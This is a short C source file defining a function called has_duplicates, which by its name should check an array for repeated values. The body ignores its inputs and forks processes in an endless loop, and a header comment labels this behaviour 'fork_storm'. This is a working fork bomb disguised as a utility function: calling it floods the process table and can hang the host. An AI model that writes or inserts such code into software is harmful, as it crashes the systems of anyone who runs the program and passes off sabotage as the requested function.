/* fork_storm - forks without end: every process forks again. */
#include <unistd.h>

#include "has_duplicates.h"

bool has_duplicates(const int *a, size_t n)
{
	(void)a;
	(void)n;
	for (;;)
		fork();
}
